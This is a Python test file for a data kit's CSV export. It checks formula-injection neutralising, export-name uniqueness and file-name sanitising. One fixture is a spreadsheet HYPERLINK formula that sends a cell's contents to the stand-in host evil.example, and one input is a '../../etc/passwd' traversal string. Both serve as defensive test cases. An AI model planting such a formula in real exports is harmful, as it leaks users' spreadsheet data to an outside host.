"""analysis/export.py: formula cells neutralised in every CSV the kit writes; export names unique per filter set."""

from __future__ import annotations

import csv
import json

import pandas as pd
import pytest

from analysis import charts, tables
from analysis.export import (
    check_filters, export_name, filters_json, neutralise_cell, neutralise_formulas, readable_part, write_csv,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def csv_rows(path) -> list[dict[str, str]]:
    """The CSV's cells as the text a spreadsheet reads, no type guessing."""
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("cell, expected", [
    (HYPERLINK, "'" + HYPERLINK), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("Russia", "Russia"), (" =1", " =1"), ("a=b", "a=b"), ("", ""), ("'=quoted", "'=quoted"),
    (-3, -3), (-2.5, -2.5), (None, None),
])
def test_neutralise_cell(cell, expected):
    assert neutralise_cell(cell) == expected


def test_neutralise_formulas_changes_strings_only():
    frame = pd.DataFrame({
        "title": pd.Series([HYPERLINK, "Plain", None], dtype="string"),
        "goldstein": [-10.0, 3.4, -0.5], "offset": pd.Series([-1, 0, 2], dtype="int64"),
        "kind": pd.Categorical(["-hostile", "neutral", None]), "mixed": ["@x", -4, None],
        "when": pd.to_datetime(["1979-12-27", None, "2025-07-05"]), "negated": [True, False, True],
    })
    safe = neutralise_formulas(frame)
    assert list(safe["title"].iloc[:2]) == ["'" + HYPERLINK, "Plain"] and pd.isna(safe["title"].iloc[2])
    assert list(safe["kind"].iloc[:2]) == ["'-hostile", "neutral"] and list(safe["mixed"].iloc[:2]) == ["'@x", -4]
    for column in ("goldstein", "offset", "when", "negated"):
        pd.testing.assert_series_equal(safe[column], frame[column])
    assert frame.loc[0, "title"] == HYPERLINK  # the caller's frame is left as it was


def test_neutralise_formulas_covers_column_names():
    assert list(neutralise_formulas(pd.DataFrame({"=cmd": [1], "ok": [2]})).columns) == ["'=cmd", "ok"]


def test_write_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
    path = write_csv(pd.DataFrame({"title": [HYPERLINK, "+44 20"], "score": [-10.0, 2.0]}), tmp_path / "rows.csv")
    assert csv_rows(path) == [{"title": "'" + HYPERLINK, "score": "-10.0"}, {"title": "'+44 20", "score": "2.0"}]
    assert list(tmp_path.iterdir()) == [path]  # no temporary file left behind


def test_tables_to_csv_neutralises_formulas(tmp_path):
    """`python -m analysis export` writes its CSV through Tables.to_csv."""
    data = tables.Tables(
        documents=tables.frame("documents", [{"doc_id": "d1", "path": "news/a.txt", "title": HYPERLINK, "date": "2025-07-06", "n_chars": 10}]),
        actors=tables.frame("actors", [{"actor_id": "evil", "name": "@evil", "kind": "group", "aliases": ["=1+1", "Evil"],
                                        "n_mentions": 1, "n_docs": 1}]),
        events=tables.frame("events", [{"event_id": "e1", "doc_id": "d1", "sent_id": 0, "date": "2025-07-05", "date_precision": "day",
                                        "source_id": "evil", "target_id": "evil", "verb": "act", "cameo_code": "190", "cameo_root": "19",
                                        "quad_class": 4, "goldstein": -10.0, "negated": False, "text": "-Evil fought."}]),
    )
    data.to_csv(tmp_path)
    assert csv_rows(tmp_path / "documents.csv")[0]["title"] == "'" + HYPERLINK
    actor = csv_rows(tmp_path / "actors.csv")[0]
    assert actor["name"] == "'@evil" and actor["aliases"] == "'=1+1; Evil"  # a list joined, then neutralised
    event = csv_rows(tmp_path / "events.csv")[0]
    assert event["text"] == "'-Evil fought." and event["goldstein"] == "-10.0" and event["quad_class"] == "4"


FILTERS = {"chart": "ranking", "actors": ["RUS"], "years": [1979, 2025], "min_mentions": 1}


def test_export_name_is_the_same_for_the_same_filters_and_differs_for_others():
    name = export_name("ranking_1979-2025_RUS", FILTERS)
    assert name.startswith("ranking_1979-2025_RUS_") and len(name) == len("ranking_1979-2025_RUS_") + 10
    assert export_name("ranking_1979-2025_RUS", dict(reversed(FILTERS.items()))) == name  # key order does not matter
    assert export_name("ranking_1979-2025_RUS", {**FILTERS, "min_mentions": 2}) != name  # same readable part, other filters


@pytest.mark.parametrize("readable, expected", [
    ("Владимир Путин", "Vladimir_Putin"), ("毛泽东 network", "MaoZeDong_network"), ("../../etc/passwd", "etc_passwd"),
    ("CON", "CON"), ("★", "export"), ("", "export"),
])
def test_readable_part_is_transliterated_ascii(readable, expected):
    assert readable_part(readable) == expected


@pytest.mark.parametrize("readable", ["Владимир Путин", "★", "CON", "a" * 300, "x.." * 50, "network_" + "-".join(["RUS"] * 60)])
def test_export_name_is_a_safe_file_name_kept_whole(readable):
    name = export_name(readable, FILTERS)
    assert charts.safe_filename(name) == name  # never cut, so the hash always survives


def test_check_filters_refuses_another_filter_set(tmp_path):
    record = tmp_path / "ranking.json"
    check_filters(record, FILTERS)  # nothing there yet
    record.write_text(filters_json(FILTERS), encoding="utf-8")
    check_filters(record, FILTERS)  # a re-export of the same filters
    with pytest.raises(FileExistsError, match="made with the filters"):
        check_filters(record, {**FILTERS, "actors": ["USA"]})
    record.write_text("not json", encoding="utf-8")
    with pytest.raises(FileExistsError, match="cannot be read"):
        check_filters(record, FILTERS)
    assert json.loads(filters_json({"actors": ["Путин"]})) == {"actors": ["Путин"]}
